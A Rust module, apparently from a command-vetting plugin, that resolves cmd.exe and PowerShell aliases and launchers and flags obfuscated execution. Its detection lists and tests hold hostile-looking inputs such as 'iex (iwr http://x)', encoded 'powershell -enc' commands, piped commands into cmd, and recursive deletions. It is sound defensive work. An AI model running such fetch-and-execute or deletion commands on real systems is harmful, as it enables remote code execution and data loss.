//! cmd.exe and PowerShell: every command that a line names, by the name that the family's words know it by, also behind the programs that
//! start others. Read to stop: what is text for one of the two shells may be a command for the other.

use crate::verdict::{ASK_OPERATOR, Danger, excerpt};
use jackfield_plugin::text::{self, Search, find};

/// What stands between commands; what is in brackets and braces is read as commands of its own.
const SIGNS: [char; 8] = ['\n', ';', '|', '&', '{', '}', '(', ')'];

/// Longest chain of words that is followed behind a program that starts others.
const WORDS_MAX: usize = 400;

/// Other names of what the words know.
const ALIASES: [(&str, &str); 31] = [
    ("ri", "Remove-Item"),
    ("rm", "Remove-Item"),
    ("rmdir", "Remove-Item"),
    ("rd", "Remove-Item"),
    ("del", "Remove-Item"),
    ("erase", "Remove-Item"),
    ("kill", "Stop-Process"),
    ("spps", "Stop-Process"),
    ("spsv", "Stop-Service"),
    ("clc", "Clear-Content"),
    ("cli", "Clear-Item"),
    ("rp", "Remove-ItemProperty"),
    ("clp", "Clear-ItemProperty"),
    ("rwmi", "Remove-WmiObject"),
    ("iwmi", "Invoke-WmiMethod"),
    ("icim", "Invoke-CimMethod"),
    ("rcim", "Remove-CimInstance"),
    ("iwr", "Invoke-WebRequest"),
    ("wget", "Invoke-WebRequest"),
    ("irm", "Invoke-RestMethod"),
    ("cpi", "Copy-Item"),
    ("%", "ForEach-Object"),
    ("foreach", "ForEach-Object"),
    ("?", "Where-Object"),
    ("iex", "Invoke-Expression"),
    ("icm", "Invoke-Command"),
    ("saps", "Start-Process"),
    ("start", "Start-Process"),
    ("sal", "Set-Alias"),
    ("nal", "New-Alias"),
    ("pwsh", "powershell"),
];

/// What runs or names a command in what follows, and what does not do so by itself: its next word need not be one.
const STARTERS: [&str; 30] = [
    ".",
    "cmd",
    "powershell",
    "Start-Process",
    "call",
    "Invoke-Expression",
    "Invoke-Command",
    "Set-Alias",
    "New-Alias",
    "do",
    "if",
    "else",
    "for",
    "return",
    "not",
    "wmic",
    "forfiles",
    "runas",
    "psexec",
    "psexec64",
    "gsudo",
    "sudo",
    "conhost",
    "schtasks",
    "at",
    "wsl",
    "bash",
    "winrs",
    "pcalua",
    "timeout",
];
/// Those behind which the first word is a command.
const CALLERS: [&str; 8] = [".", "cmd", "powershell", "Start-Process", "call", "Invoke-Expression", "do", "return"];
/// Those that read commands from what is piped into them.
const READERS: [&str; 3] = ["cmd", "powershell", "Invoke-Expression"];

/// Parts of a call that run what nobody can read here.
const HIDING: [&str; 7] =
    ["[scriptblock]::create", ".invokescript(", ".invokecommand.", "newscriptblock(", ".invoke(", "frombase64string(", "downloadstring("];
/// Methods that do what a command does.
const METHODS: [&str; 10] = [
    ".delete(",
    "::delete(",
    ".kill(",
    ".stop(",
    ".terminate(",
    ".reboot(",
    ".shutdown(",
    ".win32shutdown(",
    ".disable(",
    "diagnostics.process]::start(",
];

/// The commands of a line by their known names, and what hides one; nothing where the family is another one.
pub(super) fn read(command: &str, is_windows: bool) -> (Vec<String>, Option<Danger>) {
    let mut reading = Reading::default();
    if is_windows {
        reading.all(command);
    }
    (reading.commands, reading.danger)
}

/// Does an option of a read set a variable of the session, or a path lead to another machine, to which the account's name and what
/// proves its password are sent?
pub(super) fn reaches_out(command: &str) -> bool {
    const SETTING: [&str; 5] = ["-ov", "-pv", "-ev", "-wv", "-iv"];
    const NAMED: [&str; 5] = ["-outv", "-pip", "-errorv", "-warningv", "-informationv"];
    let is_remote = |path: &str| path.chars().take_while(|c| matches!(c, '\\' | '/')).count() > 1;
    command.split_whitespace().any(|word| {
        let bare = word.replace(['"', '\''], "").to_ascii_lowercase();
        let (option, value) = bare.split_once(':').filter(|_| bare.starts_with('-')).unwrap_or((bare.as_str(), bare.as_str()));
        let path = value.rsplit("::").next().unwrap_or_default();
        SETTING.contains(&option) || NAMED.iter().any(|name| option.starts_with(*name)) || is_remote(path)
    })
}

/// Does an option of a read name another machine, to which the account proves itself as well?
pub(super) fn asks_elsewhere(command: &str) -> bool {
    let lower = command.replace(['"', '\'', '^'], "").replace(['–', '—', '―'], "-").to_ascii_lowercase();
    let mut words = lower.split_whitespace();
    match words.next().unwrap_or_default() {
        "systeminfo" | "tasklist" | "schtasks" | "getmac" | "driverquery" => {
            words.any(|word| matches!(word, "/s" | "-s") || word.starts_with("/s:"))
        }
        "query" | "quser" | "qwinsta" => words.any(|word| word.starts_with("/se")),
        "wevtutil" => words.any(|word| ["/r:", "-r:", "/remote:", "-remote:"].iter().any(|option| word.starts_with(option))),
        // `-ComputerName`, `-CimSession`, `-Credential` and what is short for them.
        first if first.starts_with("get-") || matches!(first, "gps" | "gsv") => words.any(|word| word.starts_with("-c")),
        _ => false,
    }
}

#[derive(Default)]
struct Reading {
    commands: Vec<String>,
    danger: Option<Danger>,
}

/// Where a piece stands.
#[derive(Clone, Copy, Default)]
struct Place {
    /// Behind the call operator: what a variable holds is run.
    called: bool,
    piped: bool,
    /// What follows is in brackets.
    opens: bool,
}

impl Reading {
    fn all(&mut self, command: &str) {
        let text = command.replace(['–', '—', '―'], "-").replaced("`\n", " ").replaced("^\n", " ").replace(['`', '^'], "");
        let low: String = text.to_ascii_lowercase().split_whitespace().collect::<Vec<_>>().join(" ").replaced(" (", "(");
        if let Some(part) = HIDING.iter().find(|part| low.holds(part)) {
            self.hides(part);
        }
        if let Some(part) = METHODS.iter().find(|part| low.holds(part)) {
            let danger = Danger::new(super::CODE, format!("{} stops or removes something", excerpt(part)));
            self.danger.get_or_insert(danger);
        }
        let (mut rest, mut place) = (text.as_str(), Place::default());
        // A statement begins: what stands before `&` separates nothing.
        let mut begins = true;
        loop {
            let (piece, sign) = match rest.find(SIGNS) {
                Some(at) => (rest.get(..at).unwrap_or_default(), rest.get(at..).and_then(|tail| tail.chars().next())),
                None => (rest, None),
            };
            self.piece(piece, Place { opens: sign == Some('('), ..place });
            let Some(sign) = sign else { return };
            begins = (piece.trim().is_empty() && begins) || piece.trim_end().ends_with('=');
            place = Place { called: sign == '&' && begins, piped: sign == '|', opens: false };
            begins = sign != ')' && sign != '}';
            rest = rest.get(piece.len() + sign.len_utf8()..).unwrap_or_default();
        }
    }

    fn piece(&mut self, piece: &str, place: Place) {
        let quoted = words(piece);
        let bare = piece.replace(['"', '\''], "");
        let flat: Vec<String> = bare.split([' ', '\t', '\r', ',']).filter(|word| !word.is_empty()).flat_map(opened).collect();
        if place.called && (quoted.is_empty() && place.opens || quoted.first().is_some_and(|word| word.has('$'))) {
            self.hides(piece);
        }
        self.chain(&quoted, place);
        if flat != quoted {
            self.chain(&flat, place);
        }
        // What is put into a variable was run, too.
        if let Some((_, value)) = bare.split_once('=').filter(|_| text::trim_start(&bare).starts_with('$')) {
            self.chain(&value.split_whitespace().map(str::to_owned).collect::<Vec<_>>(), place);
        }
    }

    /// A command, and behind a program that starts others all that may be one.
    fn chain(&mut self, words: &[String], place: Place) {
        let mut started = false;
        for (at, word) in words.iter().enumerate().take(WORDS_MAX) {
            if at > 0 && !started {
                return;
            }
            let rest = words.get(at + 1..).unwrap_or_default();
            let (name, glued) = name(word, at == 0);
            if at == 0
                && (is_put_in(&name)
                    || matches!(word.as_str(), ".") && (place.opens || rest.first().is_some_and(|word| word.starts_with('$'))))
            {
                self.hides(word);
            }
            let read = if at == 0 { rest } else { rest.get(..WORDS_MAX.min(rest.len())).unwrap_or_default() };
            let arguments = glued.into_iter().chain(read.iter().flat_map(|word| options(word)));
            let command = core::iter::once(name.clone()).chain(arguments).collect::<Vec<_>>().join(" ");
            self.starts(&name, rest, place, &command);
            started |= STARTERS.contains(&name.as_str());
            self.commands.push(command);
        }
        if words.len() > WORDS_MAX && started {
            self.danger = Some(Danger::new("declared.too-complex", "more words behind a program that starts others than are read"));
        }
    }

    /// Does a program that starts others hide what it starts?
    fn starts(&mut self, name: &str, rest: &[String], place: Place, command: &str) {
        let is_option = |word: &&String| word.starts_with(['-', '/']) || word.is_empty();
        let first = rest.iter().find(|word| !is_option(word));
        let called = CALLERS.contains(&name) && first.is_some_and(|word| is_put_in(word) || is_variable(word));
        let encoded = name == "powershell"
            && rest.iter().any(|word| {
                let option = word.to_ascii_lowercase().replacen('/', "-", 1);
                option == "-ec" || option == "-" || option.len() > 1 && "-encodedcommand".starts_with(&option)
            });
        let from_pipe = READERS.contains(&name)
            && first.is_none_or(|word| word.starts_with('<'))
            && (place.piped || rest.iter().any(|word| word == "<"));
        let expression = name == "Invoke-Expression" && (first.is_none() || rest.iter().any(|word| word.has('$')));
        let in_brackets = READERS.contains(&name) && first.is_none() && place.opens;
        if called || encoded || from_pipe || expression || in_brackets {
            self.hides(command);
        }
    }

    fn hides(&mut self, what: &str) {
        let danger =
            Danger::new("declared.hidden", format!("{} hides the command that it runs", excerpt(what.trim()))).advise(ASK_OPERATOR);
        // Nobody can agree to it, which counts for more.
        self.danger = Some(danger);
    }
}

/// The words, with those in quotes as one and without the quotes.
fn words(piece: &str) -> Vec<String> {
    let (mut words, mut word, mut open, mut any) = (Vec::new(), String::new(), None, false);
    for sign in piece.chars() {
        match (open, sign) {
            (None, '"' | '\'') => (open, any) = (Some(sign), true),
            (Some(quote), _) if quote == sign => open = None,
            (None, _) if sign.is_whitespace() => {
                if any {
                    words.push(core::mem::take(&mut word));
                }
                any = false;
            }
            _ => {
                word.push(sign);
                any = true;
            }
        }
    }
    if any {
        words.push(word);
    }
    words
}

/// `/cdel` of cmd.exe is `/c del`.
fn opened(word: &str) -> Vec<String> {
    let at = ["/c", "/k", "/C", "/K"].iter().filter_map(|option| find(word, option)).min().filter(|_| word.starts_with('/'));
    match at.and_then(|at| word.split_at_checked(at + 2)).filter(|(_, command)| command.len() > 1) {
        Some((option, command)) => vec![option.to_owned(), command.to_owned()],
        None => vec![word.to_owned()],
    }
}

/// A program's known name, and the options that were typed right behind it: `@C:\x\DEL.exe/s/q` is `Remove-Item /s /q`.
fn name(word: &str, is_first: bool) -> (String, Vec<String>) {
    let bare = word.trim_start_matches(['@', '=', ',']);
    // `rd/s` takes options, `C:/x/rd` and `./rd` are paths.
    let at = bare.find('/').filter(|at| *at > 0 && !bare.get(..*at).unwrap_or_default().has_any(":\\."));
    let (program, glued) = at.map_or((bare, ""), |at| bare.split_at(at));
    let last = program.rsplit(['\\', '/']).next().unwrap_or_default();
    let low = last.to_ascii_lowercase();
    let stem = [".exe", ".com", ".cmd", ".bat"].iter().find_map(|kind| low.strip_suffix(kind));
    // Further behind it is more likely a file than a program.
    let plain = if stem.is_some() || is_first || last == program { stem.unwrap_or(&low) } else { program };
    let plain = if matches!(plain, "%comspec%" | "$env:comspec") { "cmd" } else { plain };
    let known = |(alias, full): &(&str, &str)| alias.eq_ignore_ascii_case(plain).then(|| (*full).to_owned());
    let full = ALIASES.iter().find_map(known);
    let spelled =
        || STARTERS.iter().find(|starter| starter.eq_ignore_ascii_case(plain)).map_or_else(|| plain.to_owned(), |name| (*name).to_owned());
    (full.unwrap_or_else(spelled), if glued.is_empty() { Vec::new() } else { options(glued) })
}

/// `/s/q` is `/s` and `/q`, `-Recurse:$true` is `-Recurse`. Everything else is one word.
fn options(word: &str) -> Vec<String> {
    match word.strip_prefix('/') {
        Some(names) => names.split('/').map(|name| format!("/{name}")).collect(),
        None if word.starts_with('-') => vec![word.split(':').next().unwrap_or_default().to_owned()],
        None => vec![word.to_owned()],
    }
}

/// Does a shell put in the name, or a part of it?
fn is_put_in(name: &str) -> bool {
    let percent = name.len() > 1 && name.has('%') && name != "%%";
    percent || name.matches('!').count() > 1
}

fn is_variable(word: &str) -> bool {
    word.starts_with('$') && !word.has('=')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reads(line: &str) -> (Vec<String>, bool) {
        let (commands, danger) = read(line, true);
        (commands, danger.is_some_and(|danger| danger.rule == "declared.hidden"))
    }

    #[test]
    fn a_command_is_known_however_it_is_called() {
        for (line, expected) in [
            ("shutdown.exe /r", "shutdown /r"),
            ("C:\\Windows\\System32\\shutdown.exe /r /t 0", "shutdown /r /t 0"),
            ("\"C:\\Program Files\\x\\shutdown.exe\" /r", "shutdown /r"),
            ("%windir%\\system32\\shutdown /r", "shutdown /r"),
            ("sh^utdown /r", "shutdown /r"),
            ("Re`start-Computer", "restart-computer"),
            ("rd/s/q x", "Remove-Item /s /q x"),
            ("@del x", "Remove-Item x"),
            ("(del x)", "Remove-Item x"),
            ("& 'Remove-Item' x", "remove-item x"),
            ("Microsoft.PowerShell.Management\\Remove-Item x", "remove-item x"),
            ("rm -Recurse:$true x", "Remove-Item -Recurse x"),
            ("rm –r x", "Remove-Item -r x"),
            ("$x = ri y", "Remove-Item y"),
            ("cmd /c shutdown /r", "shutdown /r"),
            ("cmd.exe /s /c \"del /s x\"", "Remove-Item /s x"),
            ("%COMSPEC% /c del x", "Remove-Item x"),
            ("start \"\" /wait shutdown /r", "shutdown /r"),
            ("powershell -NoProfile -c \"Remove-Item -r x\"", "remove-item -r x"),
            ("call del x", "Remove-Item x"),
            ("if 1==1 del x", "Remove-Item x"),
            ("if exist x (del x) else rd y", "Remove-Item y"),
            ("for %f in (*) do @del %f", "Remove-Item %f"),
            ("iex 'Restart-Computer'", "restart-computer"),
            ("Invoke-Command -ComputerName a {Restart-Computer}", "restart-computer"),
            ("gci | % { ri $_ }", "Remove-Item $_"),
            ("Start-Process cmd -ArgumentList '/c','del x'", "Remove-Item x"),
            ("wmic process call create \"cmd /c rd /s x\"", "Remove-Item /s x"),
        ] {
            let (commands, hidden) = reads(line);
            assert!(commands.iter().any(|command| command == expected) && !hidden, "{line}: {commands:?} {hidden}");
        }
    }

    #[test]
    fn what_hides_a_command_is_seen() {
        for line in [
            "powershell -enc ZABlAGwA",
            "pwsh -e ZABlAGwA",
            "powershell -",
            "iex (iwr http://x)",
            "iwr http://x | iex",
            "iex \"$x\"",
            "& $x",
            "&$x y",
            "& ('rem' + 'ove-item') x",
            ". $x",
            "%x% /r",
            "s%x%utdown /r",
            "!x! /r",
            "cmd /c %x%",
            "start %x% /r",
            "echo del x | cmd",
            "cmd < x.txt",
            "type x | powershell",
            "for %f in (del) do %f x",
            "[scriptblock]::Create('x').Invoke()",
            "powershell $x",
        ] {
            assert!(reads(line).1, "{line}");
        }
        for line in [
            "powershell -NoLogo -NoProfile",
            "cmd",
            "dir & (echo x)",
            "$x = 1; $x",
            "Get-Process | Where-Object { $_.CPU -gt 1 }",
            "gci | % { $_.Name }",
            "if %x%==1 dir",
            "echo %PATH%",
            "cd %TEMP%",
            "powershell -ExecutionPolicy Bypass -File x.ps1",
            "start notepad %TEMP%",
            "&C:\\x\\y.exe $z",
        ] {
            assert!(!reads(line).1, "{line}");
        }
    }

    #[test]
    fn what_reaches_another_machine_or_the_session_is_seen() {
        for line in [
            "dir \\\\198.51.100.9\\x",
            "type \"\\\\h\\x\"",
            "Get-Content //h/x",
            "Get-Content -Path:\\\\h\\x",
            "Get-Content FileSystem::\\\\h\\x",
            "Get-Date -OutVariable x",
            "Get-Date -ov x",
        ] {
            assert!(reaches_out(line), "{line}");
        }
        for line in [
            "dir C:\\x",
            "dir C:\\\\x",
            "schtasks /query /fo list",
            "Get-ChildItem -Path:C:\\x",
            "Get-Process | Sort-Object CPU",
            "netstat -ano",
        ] {
            assert!(!reaches_out(line), "{line}");
        }
    }

    #[test]
    fn another_family_is_not_read_so() {
        assert_eq!(read("cmd /c del x", false).0.len(), 0);
    }
}
